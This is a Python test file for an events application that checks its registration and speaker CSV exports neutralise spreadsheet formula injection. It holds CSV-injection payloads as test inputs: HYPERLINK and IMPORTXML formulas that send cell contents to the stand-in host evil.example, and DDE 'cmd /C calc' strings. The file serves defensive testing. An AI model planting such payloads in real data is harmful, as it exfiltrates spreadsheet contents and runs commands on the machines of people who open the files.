"""Issue #10, item 7: no export lets a spreadsheet run a formula, in any cell, header row included.

Attendees and speakers type the payloads over HTTP (registration form and API, the invitation link, the
speaker API); the organiser then downloads every CSV export.
"""

from __future__ import annotations

import csv
import io

import pytest

from events_app.core.csv_cells import FORMULA_STARTS, csv_text, safe_cell
from tests.conftest import login, make_event, post_form
from tests.schedule_support import conference
from tests.test_api import auth
from tests.test_registration_api import open_registration
from tests.test_speakers_invitations import invite_through_the_board

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', '+1+cmd|" /C calc"!A0', "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_first_character_is_neutralised_in_one_place(first):
    assert safe_cell(f"{first}1+1") == f"'{first}1+1"
    assert safe_cell("Müller, =not first") == "Müller, =not first"
    rows = cells(csv_text([f"{first}label"], [[f"{first}value", None, 3]]).encode())
    assert rows == [[f"'{first}label"], [f"'{first}value", "", "3"]]


async def test_registration_exports_neutralise_names_answers_and_question_labels(client, db, organiser, token):
    event = await make_event(db, organiser)
    await open_registration(client, token, event.slug, capacity=10, questions=[
        {"label": "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")", "kind": "short_text"},
        {"label": "@Diet", "kind": "long_text"}])
    for n, payload in enumerate(PAYLOADS):
        response = await client.post(f"/api/events/{event.slug}/registrations", json={
            "name": payload, "email": f"p{n}@example.org", "affiliation": payload,
            "answers": {"importxmlconcathttpevilexamplea2a": payload, "diet": payload}})
        assert response.status_code == 202, response.text
    form = await post_form(client, f"/events/{event.slug}/register",
                           {"name": "-Minus", "email": "form@example.org", "affiliation": "+Plus"},
                           action=f"/events/{event.slug}/register")
    assert form.status_code == 200 and "form@example.org" in form.text, form.text  # the "check your e-mail" page

    api = await client.get(f"/api/events/{event.slug}/registrations/export", headers=auth(token))
    await login(client, organiser.email)
    page = await client.get(f"/organiser/events/{event.slug}/registrations/export.csv")
    for export in (api, page):
        assert export.status_code == 200
        rows = cells(export.content)
        assert rows[0][-2:] == ["'=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")", "'@Diet"]
        assert len(rows) == 1 + len(PAYLOADS) + 1
        assert {row[0] for row in rows[1:]} == {"'" + p for p in PAYLOADS} | {"'-Minus"}
        assert_no_formula(rows)


async def test_speaker_export_neutralises_names_affiliations_and_titles(client, db, organiser, token):
    event = await conference(db, organiser)
    created = await client.post("/api/speakers", headers=auth(token),
                                json={"full_name": PAYLOADS[0], "affiliation": PAYLOADS[1], "honorific": "@Dr"})
    assert created.status_code == 201, created.text
    slot = await client.post(f"/api/events/{event.slug}/talks", headers=auth(token), json={
        "title": PAYLOADS[3], "starts_at": "2030-03-05T18:00:00", "ends_at": "2030-03-05T19:00:00",
        "speaker_ids": [created.json()["id"]]})
    assert slot.status_code == 201, slot.text
    await invite_through_the_board(client, db, organiser, event, full_name="-Invited", affiliation="=Affil",
                                   title=PAYLOADS[2])
    export = await client.get(f"/organiser/events/{event.slug}/speakers.csv")
    assert export.status_code == 200
    rows = cells(export.content)
    assert len(rows) == 3
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["'" + PAYLOADS[0]][1:3] == ["'@Dr", "'" + PAYLOADS[1]]
    assert by_name["'" + PAYLOADS[0]][8] == "'" + PAYLOADS[3]
    assert by_name["'-Invited"][2] == "'=Affil" and by_name["'-Invited"][7] == "'" + PAYLOADS[2]
    assert_no_formula(rows)
